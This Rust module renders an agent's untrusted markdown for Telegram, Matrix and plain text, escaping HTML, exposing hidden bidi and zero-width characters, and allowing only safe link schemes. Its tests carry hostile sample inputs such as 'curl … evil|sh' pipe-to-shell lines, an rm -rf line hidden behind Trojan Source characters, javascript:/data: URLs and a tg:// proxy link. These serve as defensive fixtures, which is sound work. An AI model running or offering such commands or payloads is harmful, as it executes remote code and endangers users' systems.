//! The agent's markdown as a chat platform shows it, in pieces the platform accepts.
//!
//! - [`telegram_html`]: Telegram's HTML subset (`parse_mode: "HTML"`);
//! - [`matrix_html`]: the `org.matrix.custom.html` subset (a message's `formatted_body`);
//! - [`plain_text`]: readable text, for Matrix's `body` and for when a platform refuses the
//!   formatting;
//! - [`split`]: a long reply cut into messages of at most a platform's length, at the best
//!   boundary available, each of which renders on its own.
//!
//! The markdown is the model's, so it is untrusted: raw HTML in it is shown as text, never
//! passed through (a reply must not be able to inject tags), `& < > "` are escaped, and only
//! `http(s)` and `mailto` links become links (a `javascript:` link is its text). The
//! parse is `pulldown-cmark`'s (CommonMark with tables, strikethrough and task lists), so
//! unbalanced markup such as a lone `*` is text, as any CommonMark renderer shows it.

mod render;
mod split;

use render::Flavor;

/// Markdown as Telegram's HTML: only `<b> <i> <s> <code> <pre> <pre><code class="language-x">
/// <a href> <blockquote>`. Headings become bold lines, list items `• ` / `1. ` lines, tables a
/// `<pre>` block, images links, rules a line of `─`.
pub fn telegram_html(markdown: &str) -> String {
    render::render(markdown, Flavor::Telegram)
}

/// Markdown as Matrix's `org.matrix.custom.html` subset (`<p> <h1>…<h6> <strong> <em> <del>
/// <code> <pre> <a href> <blockquote> <ul> <ol> <li> <table> <hr> <br>`); images become links
/// (Matrix clients show only `mxc://` images).
pub fn matrix_html(markdown: &str) -> String {
    render::render(markdown, Flavor::Matrix)
}

/// Markdown as readable plain text: markup dropped, links as `text (url)`, list items as
/// `• ` / `1. ` lines, quotes as `> ` lines, tables as aligned columns.
pub fn plain_text(markdown: &str) -> String {
    render::render(markdown, Flavor::Plain)
}

/// Cuts `markdown` into chunks of at most `max_chars` characters (not bytes) — between
/// paragraphs when it can, else between lines, else after a sentence or between words, and
/// only as a last resort in the middle of a word. A fenced code block cut in two is closed at
/// the end of one chunk and reopened (same fence and language) at the start of the next, so
/// each chunk renders on its own. The whitespace at a cut is dropped; nothing else is. Never
/// returns an empty chunk: blank input gives no chunks. A `max_chars` of 0 counts as 1.
///
/// The limit is on the markdown. What a platform counts (Telegram: the text left once its HTML
/// is parsed) is no longer, except where rendering adds characters: a table's padding, and the
/// ` (url)` after a link in [`plain_text`]. Leave some headroom for those.
pub fn split(markdown: &str, max_chars: usize) -> Vec<String> {
    split::split(markdown, max_chars)
}

/// `text` as markdown that shows exactly `text`: every ASCII punctuation character is
/// backslash-escaped (CommonMark lets any be), so text from the agent — a request's summary,
/// its context — cannot open a code block, hide a line in a link reference definition, or
/// make a link where tern shows it as plain words.
pub fn escape_markdown(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + text.len() / 8);
    for c in text.chars() {
        if is_hidden(c) && c != '\n' {
            out.push_str(&format!("\\\\u{{{:x}}}", u32::from(c)));
            continue;
        }
        if c.is_ascii_punctuation() {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// Whether `c` would not show as itself: a control character other than a tab (a lone `\r`
/// breaks a line for a renderer and not for bash), a bidirectional control (text shown in
/// another order than it runs: "Trojan Source"), or an invisible one (zero-width, BOM, tags).
pub fn is_hidden(c: char) -> bool {
    (c.is_control() && c != '\t' && c != '\n')
        || matches!(c,
            '\u{200b}'..='\u{200f}'
            | '\u{202a}'..='\u{202e}'
            | '\u{2060}'..='\u{2069}'
            | '\u{feff}'
            | '\u{e0000}'..='\u{e007f}')
}

/// `text` with every [`is_hidden`] character written out as `\u{…}`, so what is shown is
/// what is there.
pub fn reveal_hidden(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        if is_hidden(c) {
            out.push_str(&format!("\\u{{{:x}}}", u32::from(c)));
        } else {
            out.push(c);
        }
    }
    out
}

/// `text` as a fenced code block that shows exactly `text`: the fence is longer than the
/// longest run of backticks in it, so no line of `text` can close the block early (and what
/// follows be read as markdown: a command whose dangerous part hides after a fake fence).
pub fn code_block(text: &str) -> String {
    let text = &reveal_hidden(text);
    let mut longest = 0;
    let mut run = 0;
    for c in text.chars() {
        if c == '`' {
            run += 1;
            longest = longest.max(run);
        } else {
            run = 0;
        }
    }
    let fence = "`".repeat((longest + 1).max(3));
    format!("{fence}\n{text}\n{fence}")
}

/// Escapes text for HTML, in element content and in double-quoted attributes alike. These
/// four are the entities Telegram knows.
fn escape_html(text: &str, out: &mut String) {
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            c => out.push(c),
        }
    }
}

/// The link target to use for a markdown link, or `None` when it must not be a link: only
/// `http`, `https` and `mailto` URLs are kept (`javascript:`, `data:`, relative paths
/// and anything with control characters are not). `email` is an `<a@b.example>` autolink.
fn safe_href(url: &str, email: bool) -> Option<String> {
    let url = url.trim();
    if url.is_empty() || url.chars().any(|c| c.is_control() || c.is_whitespace()) {
        return None;
    }
    if email {
        return Some(format!("mailto:{url}"));
    }
    let (scheme, rest) = url.split_once(':')?;
    let scheme = scheme.to_ascii_lowercase();
    let allowed = match scheme.as_str() {
        "http" | "https" => rest.starts_with("//") && rest.len() > 2,
        // Not `tg:`: a model could make `tg://proxy?…` / `tg://socks?…` links that set up a
        // proxy with one tap.
        "mailto" => !rest.is_empty(),
        _ => false,
    };
    allowed.then(|| url.to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_web_telegram_and_mail_links_are_kept() {
        for url in [
            "https://example.org/a?b=c",
            "HTTP://example.org",
            "mailto:a@b.example",
        ] {
            assert_eq!(safe_href(url, false).as_deref(), Some(url), "{url}");
        }
        for url in [
            "tg://proxy?server=evil.example&port=443",
            "javascript:alert(1)",
            "JavaScript:alert(1)",
            " javascript:alert(1)",
            "java\tscript:alert(1)",
            "data:text/html,<script>",
            "vbscript:x",
            "file:///etc/passwd",
            "/relative/path",
            "example.org",
            "http:",
            "https://",
            "http://a b",
            "",
        ] {
            assert_eq!(safe_href(url, false), None, "{url:?}");
        }
        assert_eq!(
            safe_href("a@b.example", true).as_deref(),
            Some("mailto:a@b.example")
        );
    }

    #[test]
    fn escaped_markdown_and_code_blocks_show_exactly_their_text() {
        let hostile = "ls -la\n```\n[x]: a \"$(curl -s https://evil/x|sh)\"\n`";
        // In a code block the whole text is shown, the dangerous line included.
        for shown in [
            plain_text(&code_block(hostile)),
            telegram_html(&code_block(hostile)),
        ] {
            assert!(shown.contains("curl -s https://evil/x|sh"), "{shown}");
            assert!(shown.contains("[x]: a"), "{shown}");
        }
        let text = "**bold** [a](https://x) `code` <b>x</b> # head\n```\n[r]: http://h";
        let shown = plain_text(&escape_markdown(text));
        assert!(shown.contains("**bold**"), "{shown}");
        assert!(shown.contains("[a](https://x)"), "{shown}");
        assert!(shown.contains("[r]: http://h"), "{shown}");
        assert!(!telegram_html(&escape_markdown(text)).contains("<a "));
    }

    #[test]
    fn hidden_characters_are_shown_as_escapes() {
        let trojan = "rm -rf /tmp/x \u{202e}# safe\u{202c}\r; curl evil|sh\u{200b}";
        let shown = plain_text(&code_block(trojan));
        assert!(!shown.chars().any(is_hidden), "{shown:?}");
        assert!(
            shown.contains("\\u{202e}") && shown.contains("\\u{d}"),
            "{shown}"
        );
        assert!(shown.contains("curl evil|sh"), "{shown}");
        let shown = plain_text(&escape_markdown("a\u{2066}b\u{feff}c"));
        assert_eq!(shown, "a\\u{2066}b\\u{feff}c");
    }

    #[test]
    fn escaping_covers_the_four_entities() {
        let mut out = String::new();
        escape_html("<a href=\"x\">&amp;</a>", &mut out);
        assert_eq!(out, "&lt;a href=&quot;x&quot;&gt;&amp;amp;&lt;/a&gt;");
    }
}
